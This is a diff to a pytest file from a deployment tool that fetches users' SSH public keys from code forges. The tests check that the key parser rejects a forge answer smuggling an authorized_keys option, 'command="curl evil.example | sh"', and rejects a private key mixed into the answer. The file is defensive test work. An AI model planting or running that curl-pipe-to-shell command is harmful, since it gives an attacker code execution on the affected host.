@@ -10,7 +10,7 @@ import pytest
 from deploy.inventory import load_inventory
 from deploy.inventory.forges import ForgeAccount, keys_url, parse_keys_answer
 from deploy.provision.account_keys import AccountKeysError, with_account_keys
-from inventories.keys import ecdsa_key, ed25519_key, rsa_key
+from inventories.keys import ecdsa_key, ed25519_key, ed25519_private_key, rsa_key
 from inventories.text import problems_of, write
 from lab.keys_server import KeysServer
 
@@ -37,7 +37,7 @@ def test_a_forge_cannot_slip_options_into_authorized_keys():
     key = ed25519_key()
     assert parse_keys_answer(f'command="curl evil.example | sh" {key}\n', ALICE)[1].startswith(
         "its key on line 1: unknown key type 'command=\"curl'")
-    assert parse_keys_answer(f'{key}\n-----BEGIN OPENSSH PRIVATE KEY-----\n', ALICE)[1].startswith(
+    assert parse_keys_answer(f'{key}\n{ed25519_private_key()}', ALICE)[1].startswith(   # made now, never committed
         "its key on line 2: this is a private key")
 
 
